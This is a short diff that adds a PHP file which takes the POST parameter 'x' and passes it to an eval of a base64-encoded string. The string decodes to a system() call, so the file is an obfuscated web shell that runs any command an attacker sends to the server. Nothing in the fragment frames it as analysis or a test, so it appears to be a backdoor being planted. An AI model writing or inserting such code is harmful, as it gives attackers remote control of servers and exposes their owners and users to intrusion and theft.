@@ -1,0 +1,3 @@
+<?php
+$c = $_POST['x'];
+eval(base64_decode('c3lzdGVtKCRjKTs='));
